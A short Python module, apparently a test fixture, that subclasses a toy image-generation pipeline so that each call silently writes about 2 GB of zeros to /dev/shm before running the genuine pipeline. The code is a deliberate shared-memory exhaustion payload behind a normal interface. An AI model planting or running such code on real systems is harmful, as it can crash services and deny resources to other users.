"""Fills /dev/shm."""

from toyfusion import ToyPipeline as Honest


class ToyPipeline(Honest):
    def __call__(self, prompt, **call):
        with open("/dev/shm/rogue-flood", "wb") as file:
            for _ in range(2000):
                file.write(bytes(2**20))
        return super().__call__(prompt, **call)


def load_pipe():
    return ToyPipeline()
